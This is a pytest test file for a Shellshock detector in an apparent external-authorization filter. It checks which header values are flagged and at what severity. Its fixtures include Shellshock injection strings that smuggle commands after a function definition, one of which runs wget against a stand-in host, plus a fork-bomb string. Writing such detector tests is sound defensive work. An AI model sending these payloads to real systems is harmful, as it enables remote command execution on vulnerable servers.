"""Shellshock: "() {" opening a value, an assignment or a quoted string."""
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from extauthz.decode import Input
from extauthz.detect.prefilter import Prefilter
from extauthz.detect.shellshock import Shellshock
from extauthz.finding import Severity

DETECTOR = Shellshock()
PREFILTER = Prefilter([DETECTOR])


def scan(value: str, kind: str = "header"):
    if not PREFILTER.candidates(value):
        return []
    return list(DETECTOR.scan_input(Input(kind, "x-test", value)))


@pytest.mark.parametrize("value", [
    "() { :;}; /bin/bash -c \"wget http://a.b/c\"",
    "() { :; }; echo vulnerable",
    "env x='() { :;}; echo vulnerable' bash -c \"echo test\"",
    "() { _; } >_[$($())] { touch /tmp/x; }",
    "() { 0; }; touch /tmp/blns.shellshock1.fail;",
])
def test_definition_with_command_is_critical(value):
    (f,) = scan(value)
    assert (f.cls, f.rule, f.severity) == ("shellshock", "shellshock.function-definition", Severity.CRITICAL)


@pytest.mark.parametrize("value", ["() {", "  ()  {  :; }", "Cookie: () { echo \"Hello world\"; }"])
def test_bare_definition_is_high(value):
    (f,) = scan(value)
    assert f.severity == Severity.HIGH


@pytest.mark.parametrize("value", [
    "render() { return x }", "function () { return 1 }", "call(a, b) { x }", "() => { x }",
    "see (below) {braces}", "f(){ f|f& };f",
])
def test_code_and_prose_pass(value):
    assert scan(value) == []


@given(st.text(alphabet=st.sampled_from(list("(){} ;:'\"=x")), max_size=200))
@settings(max_examples=300, deadline=None)
def test_property_never_raises(value):
    DETECTOR.scan_input(Input("header", "x", value))
